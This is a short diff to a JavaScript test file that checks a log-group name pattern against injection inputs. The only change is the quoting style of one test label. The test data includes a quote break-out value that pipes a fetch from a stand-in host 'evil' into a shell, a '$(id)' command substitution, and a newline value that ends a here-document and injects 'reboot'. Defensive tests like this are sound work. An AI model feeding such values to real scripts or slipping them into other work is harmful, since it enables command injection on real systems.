@@ -143,7 +143,7 @@ describe('values that reach a script as parameters', () => {
   const LOG_GROUP = /^[.\-_/#A-Za-z0-9]{1,512}$/;
 
   test.each([
-    ["a quote", "/org/x'; curl evil | sh; '"],
+    ['a quote', "/org/x'; curl evil | sh; '"],
     ['a command substitution', '/org/$(id)'],
     ['a new line that ends the here-document', '/org/x\nGOLDEN_AMI_CLOUDWATCH_CONFIG\nreboot'],
     ['a JSON quote', '/org/x"}'],
